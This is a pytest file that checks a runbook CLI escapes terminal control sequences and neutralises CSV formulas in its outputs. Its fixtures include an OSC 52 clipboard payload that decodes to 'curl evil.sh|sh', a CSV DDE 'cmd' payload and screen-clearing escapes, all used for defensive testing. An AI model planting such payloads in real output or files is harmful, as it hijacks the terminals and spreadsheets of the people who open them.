"""Text from a runbook, a script or an operator cannot drive the terminal (issue 8, items 3 and 4).

One runbook carries escape sequences everywhere a person can write text: an OSC 0 that retitles
the terminal, an OSC 52 that sets the clipboard, a raw C1 CSI (U+009B), a bidi override and a BEL;
the events script and the operator name carry more. Every command's plain-text output, to stdout
and to files, shows them as visible escapes; JSON keeps the exact data with every control
escaped; CSV cells that look like formulas are neutralised and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import re
import textwrap
from pathlib import Path

import pytest

from runbook.cli import main
from runbook.store import Store

OSC0 = "\x1b]0;owned\x07"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # clipboard := "curl evil.sh|sh"
CSI = "\x9b2J"  # a C1 CSI: clear screen on terminals that take 8-bit controls
BIDI = "\u202e"
RAW = re.compile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

RUNBOOK = textwrap.dedent("""\
    runbook: 1
    id: hostile-terminal
    title: "Swap \\e]0;owned\\a port \\u202e\\x85"
    timezone: Asia/Seoul
    window:
      start: 2026-11-25T00:00
      announced_resume: 2026-11-25T01:00
    steps:
      - id: one
        title: "=HYPERLINK(\\"http://evil\\") \\e]52;c;Y3VybCBldmlsLnNofHNo\\a"
        owner: "@ops \\x9b2J"
        estimate: 5m
      - id: two
        title: "Reopen \\u202eevil"
        estimate: 5m
    contingencies:
      - id: rollback
        title: "Back \\e[2J out"
        steps:
          - {id: back, title: "-1+2", estimate: 5m}
    """)

SCRIPT = textwrap.dedent("""\
    events:
      - {at: 0m, start: one}
      - {at: 3m, note: "vendor \\e]52;c;Y3VybCBldmlsLnNofHNo\\a case"}
      - {at: 4m, complete: one, note: "+cmd|' /C calc'!A0"}
      - {at: 4m, start: two}
      - {at: 9m, complete: two, note: "\\x9b2J done \\u202e"}
    """)


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile-terminal")
    book = root / "hostile-terminal.yaml"
    book.write_text(RUNBOOK)
    script = root / "night.events.yaml"
    script.write_text(SCRIPT)
    db = root / "runs.db"
    code = main(["simulate", str(book), "--events", str(script), "--db", str(db), "--samples",
                 "300", "--operator", f"kim{OSC0}"])
    assert code == 0
    return {"book": book, "script": script, "db": db, "root": root}


def run(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_hostile_text_is_really_in_the_run(files):
    with Store(files["db"], readonly=True) as s:
        (info,) = s.runs()
        events = s.events(info.id)
    assert "\x1b]0;owned\x07" in info.title
    assert any(OSC52 in e.payload.get("text", "") for e in events)
    assert any(e.actor == f"kim{OSC0}" for e in events)


@pytest.mark.parametrize("command", [
    ["check", "{book}", "--samples", "300", "--verbose"],
    ["simulate", "{book}", "--events", "{script}", "--samples", "300"],
    ["runs", "--db", "{db}"],
    ["report", "--db", "{db}", "--format", "md"],
    ["report", "--db", "{db}", "--format", "html"],
    ["report", "--db", "{db}", "--format", "csv"],
])
def test_plain_text_output_shows_escapes_instead_of_obeying_them(capsys, files, command):
    args = [a.format(**files) for a in command]
    code, out, err = run(capsys, *args)
    assert code in (0, 1), err
    assert not RAW.search(out), repr(RAW.search(out))
    assert "\\x1b" in out


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_reports_written_to_a_file_are_safe_too(capsys, files, fmt):
    target = files["root"] / f"log.{fmt}"
    code, _, err = run(capsys, "report", "--db", files["db"], "--format", fmt, "-o", target)
    assert code == 0, err
    text = target.read_text()
    assert not RAW.search(text) and "\\x1b" in text and "52;c;Y3VybCBldmlsLnNofHNo" in text


@pytest.mark.parametrize("command", [
    ["check", "{book}", "--samples", "300", "--json"],
    ["simulate", "{book}", "--events", "{script}", "--samples", "300", "--json"],
    ["runs", "--db", "{db}", "--json"],
    ["report", "--db", "{db}", "--format", "json"],
])
def test_json_escapes_every_control_and_keeps_the_data(capsys, files, command):
    code, out, err = run(capsys, *[a.format(**files) for a in command])
    assert code in (0, 1), err
    assert not RAW.search(out)  # before: U+009B and U+202E went out raw (ensure_ascii=False)
    assert "\\u009b" in out or "\\u001b" in out
    assert any("\x1b]0;owned\x07" in text for text in strings(json.loads(out)))  # exact data


def strings(data: object) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        data = list(data.values())
    return [s for item in data for s in strings(item)] if isinstance(data, list) else []


def test_csv_neutralises_formulas_and_keeps_numbers(capsys, files):
    code, out, _ = run(capsys, "report", "--db", files["db"], "--format", "csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out, newline=""))}
    assert rows["one"]["title"].startswith("'=HYPERLINK(")  # before: a live formula
    assert rows["one"]["owner"] == "'@ops \\x9b2J"
    assert rows["back"]["title"] == "'-1+2"
    assert rows["one"]["notes"] == "00:04 kim\\x1b]0;owned\\x07: +cmd|' /C calc'!A0"
    assert "'" not in rows["one"]["actual_s"] and rows["one"]["actual_s"] == "240"
    assert rows["one"]["variance_s"] == "-60"  # a negative number stays a number


def test_html_and_markdown_stay_escaped(capsys, files):
    _, html, _ = run(capsys, "report", "--db", files["db"], "--format", "html")
    _, md, _ = run(capsys, "report", "--db", files["db"], "--format", "md")
    assert "<script" not in html and "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07" in html
    assert "\\=HYPERLINK" in md or "=HYPERLINK" in md
    assert "Swap \\x1b\\]0;owned\\x07 port" in md  # Markdown-escaped and terminal-safe


def test_an_error_quoting_a_hostile_file_name_is_safe(capsys, files):
    bad = files["root"] / f"x{OSC52}.yaml"
    bad.write_text("runbook: 2\n")
    code, out, err = run(capsys, "check", bad)
    assert code == 2 and not RAW.search(err.replace("\n", ""))
    assert "\\x1b]52;c;" in err
    code, _, err = run(capsys, "simulate", files["book"], "--events", bad)
    assert code == 2 and not RAW.search(err.replace("\n", ""))
    code, _, err = run(capsys, "report", "--db", files["root"] / f"none{OSC0}.db")
    assert code == 2 and not RAW.search(err.replace("\n", "")), err


def test_a_globbed_hostile_file_name_in_a_usage_error_is_safe(capsys):
    with pytest.raises(SystemExit) as stop:  # `runbook check *.yaml` matching two files
        main(["check", "night.yaml", f"x{OSC0}.yaml"])
    err = capsys.readouterr().err
    assert stop.value.code == 2 and not RAW.search(err.replace("\n", ""))
    assert "unrecognized arguments: x\\x1b]0;owned\\x07.yaml" in err
